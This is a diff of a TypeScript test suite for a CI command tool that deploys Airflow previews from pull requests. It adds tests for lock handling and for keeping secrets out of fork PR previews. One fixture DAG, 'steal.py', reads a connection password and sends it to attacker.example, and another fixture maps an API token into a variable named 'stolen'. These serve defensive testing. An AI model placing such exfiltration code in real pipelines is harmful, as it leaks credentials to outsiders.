@@ -72,6 +72,10 @@ describe("astro-ci command", () => {
       const code = await commentCommand(["--event", event("/ci deploy staging")], io(), env());
       expect(out).toMatch(/^failed deploy on [0-9a-f]{12}: .*ASTRO_API_TOKEN/);
       expect(code).toBe(1);
+      // One "failed", not "failed: failed:".
+      const reply = (emulator.state.comments.get(7) ?? []).find((c) => c.body.includes("astro-ci:commands"))?.body ?? "";
+      expect(reply).toMatch(/`deploy` on [0-9a-f]{12}: failed: ASTRO\\_API\\_TOKEN is not set/);
+      expect(reply).not.toMatch(/failed: failed/);
       // The worktree of the PR head is gone again; the lock was taken.
       expect(repo.git("worktree", "list").split("\n")).toHaveLength(1);
       expect([...emulator.state.refs.keys()]).toContain("refs/astro-ci/locks/staging");
@@ -79,6 +83,42 @@ describe("astro-ci command", () => {
       origin.cleanup();
     }
   });
+
+  it("a fetch of the PR head that fails (no refs/pull/N/head, origin unreachable) is exit 2: the lock it took is given back, the reply says so with the fix, 😕", async () => {
+    const origin = createTempGitRepo({ "dags/a.py": "x = 2\n" });
+    try {
+      const sha = origin.commit("pr head");
+      repo.git("remote", "add", "origin", origin.dir);
+      emulator.seedPull({ number: 7, headSha: sha });
+      emulator.state.permissions.set("alice", "admin");
+      // An earlier command's answer: the reply must not go on saying "done".
+      expect(await commentCommand(["--event", event("/ci lock production")], io(), env())).toBe(0);
+      await commentCommand(["--event", event("/ci unlock production")], io(), env());
+      for (const [why, setup] of [
+        ["no refs/pull/7/head on origin", () => undefined],
+        ["origin unreachable", () => repo.git("remote", "set-url", "origin", join(origin.dir, "gone"))],
+      ] as const) {
+        setup();
+        out = "";
+        emulator.state.reactions.length = 0;
+        let stderr = "";
+        const code = await runCli(["command", "--event", event("/ci deploy staging")], { stdout: (t) => (out += t), stderr: (t) => (stderr += t), cwd: repo.dir, isTty: false, env: env() });
+        expect(code, `${why}: ${stderr}`).toBe(2);
+        expect(stderr, why).toMatch(/^astro-ci: could not fetch refs\/pull\/7\/head from origin: git fetch failed: .* Fix: run actions\/checkout before the command step/);
+        expect(stderr, why).not.toMatch(/internal error/);
+        expect([...emulator.state.refs.keys()].filter((r) => r.includes("staging")), why).toEqual([]);
+        const replies = (emulator.state.comments.get(7) ?? []).filter((c) => c.body.includes("astro-ci:commands"));
+        expect(replies, why).toHaveLength(1);
+        const reply = replies[0]?.body ?? "";
+        expect(reply, why).not.toMatch(/✅/);
+        expect(reply, why).toMatch(/⚠️ .*\n\n`deploy` on [0-9a-f]{12} failed before it ran \(nothing was run or deployed\) and the lock on `staging` was given back: the pull request head could not be checked out: could not fetch refs\/pull\/7\/head from origin: .*\n\nFix: run actions\/checkout/s);
+        expect(emulator.state.reactions.map((r) => r.content), why).toEqual(["eyes", "confused"]);
+        expect(repo.git("worktree", "list").split("\n"), why).toHaveLength(1);
+      }
+    } finally {
+      origin.cleanup();
+    }
+  }, 120_000);
 
   it("/validate runs the static tier on the PR head with the trusted config, never the PR's", async () => {
     const origin = createTempGitRepo({
@@ -209,7 +249,9 @@ describe("astro-ci command", () => {
       "settings.yaml": "airflow:\n  variables:\n    - variable_name: stolen\n      variable_value: ${ASTRO_API_TOKEN}\n",
     });
     try {
-      writeFileSync(join(repo.dir, "astro-ci.yaml"), "previews:\n  template-deployment-name: tmpl\n  name: \"r-pr-{pr}\"\n  airflow-settings: settings.yaml\n");
+      // The default name, {project}-pr-{pr}: the root project is named after the repository (o/r), as in the
+      // branch-deploy workflow, never after the PR's temp worktree folder (astro-ci-pr-<random>-pr-7).
+      writeFileSync(join(repo.dir, "astro-ci.yaml"), "previews:\n  template-deployment-name: tmpl\n  airflow-settings: settings.yaml\n");
       writeFileSync(join(repo.dir, "settings.yaml"), "airflow:\n  variables:\n    - variable_name: environment\n      variable_value: preview\n");
       repo.commit("previews");
       const sha = origin.commit("pr head");
@@ -226,6 +268,48 @@ describe("astro-ci command", () => {
       expect(astro.uploads.at(-1)?.entries.map((e) => e.path)).toEqual(["dags/pr_dag.py"]);
       expect(astro.environmentObjects.map((o) => o.objectKey)).toEqual(["environment"]);
       expect(JSON.stringify(astro.environmentObjects)).not.toContain("test-token");
+      expect(astro.validationErrors).toEqual([]);
+      expect(airflow.validationErrors).toEqual([]);
+    } finally {
+      origin.cleanup();
+      await astro.close();
+      await airflow.close();
+    }
+  }, 120_000);
+
+  it("/preview of a fork's PR (previews.forks: true, commands.forks: dags-only) deploys its DAGs without any secret value, and the reply says what was left out", async () => {
+    const { startAirflowEmulator } = await import("../support/airflow-emulator.js");
+    const airflow = await startAirflowEmulator();
+    const astro = await startAstroEmulator({ deployDurationMs: 0, airflowApiUrl: airflow.apiUrl });
+    const origin = createTempGitRepo({
+      Dockerfile: "FROM quay.io/astronomer/astro-runtime:12.1.0\n",
+      // Airflow runs this when it parses it, with the preview's connections.
+      "dags/steal.py": "from urllib.request import urlopen\nfrom airflow.hooks.base import BaseHook\nurlopen('https://attacker.example/?p=' + BaseHook.get_connection('warehouse').password)\n",
+    });
+    try {
+      writeFileSync(join(repo.dir, "astro-ci.yaml"), "previews:\n  template-deployment-name: tmpl\n  forks: true\n  airflow-settings: settings.yaml\ncommands:\n  forks: dags-only\n");
+      writeFileSync(join(repo.dir, "settings.yaml"), "airflow:\n  connections:\n    - conn_id: warehouse\n      conn_type: postgres\n      conn_host: db.example.com\n      conn_password: ${PREVIEW_DB_PASSWORD}\n  variables:\n    - variable_name: environment\n      variable_value: preview\n");
+      repo.commit("fork previews");
+      const sha = origin.commit("fork head");
+      origin.git("update-ref", "refs/pull/11/head", sha);
+      repo.git("remote", "add", "origin", origin.dir);
+      astro.addDeployment({ name: "tmpl", environmentVariables: [{ key: "WAREHOUSE_TOKEN", value: "tmpl-secret", isSecret: true }, { key: "LOG_LEVEL", value: "INFO", isSecret: false }] });
+      emulator.seedPull({ number: 11, headSha: sha, headRepo: "mallory/r" });
+      emulator.state.permissions.set("alice", "maintain");
+      const seeded = emulator.seedComment(11, "/astro preview", "alice");
+      const file = join(tempDirPath("astro-ci-event-"), "event.json");
+      writeFileSync(file, JSON.stringify(commentPayload({ body: "/astro preview", commentId: seeded.id, pr: 11 })));
+      const code = await commentCommand(["--event", file, "--format", "json"], io(), env({ ASTRO_API_TOKEN: "test-token", ASTRO_API_URL: astro.url, ASTRO_ORGANIZATION_ID: astro.organizationId, PREVIEW_DB_PASSWORD: "real-db-password" }));
+      expect(code).toBe(0);
+      expect(JSON.parse(out)).toMatchObject({ command: "preview", accepted: true, sha, reason: expect.stringContaining("not given to this fork's preview: the template's connections, variables and environment variables, connection warehouse (conn_password, ${PREVIEW_DB_PASSWORD})") });
+      const preview = [...astro.deployments.values()].find((d) => d.name === "r-pr-11");
+      expect(preview?.environmentVariables ?? []).toEqual([]);
+      expect(astro.environmentObjects.map((o) => o.objectKey)).toEqual(["environment"]);
+      expect(JSON.stringify([preview, astro.environmentObjects])).not.toContain("real-db-password");
+      expect(astro.uploads.at(-1)?.entries.map((e) => e.path)).toEqual(["dags/steal.py"]);
+      const reply = (emulator.state.comments.get(11) ?? []).find((c) => c.body.includes("astro-ci:commands"))?.body ?? "";
+      expect(reply).toContain("not given to this fork's preview");
+      expect(reply).not.toContain("real-db-password");
       expect(astro.validationErrors).toEqual([]);
       expect(airflow.validationErrors).toEqual([]);
     } finally {
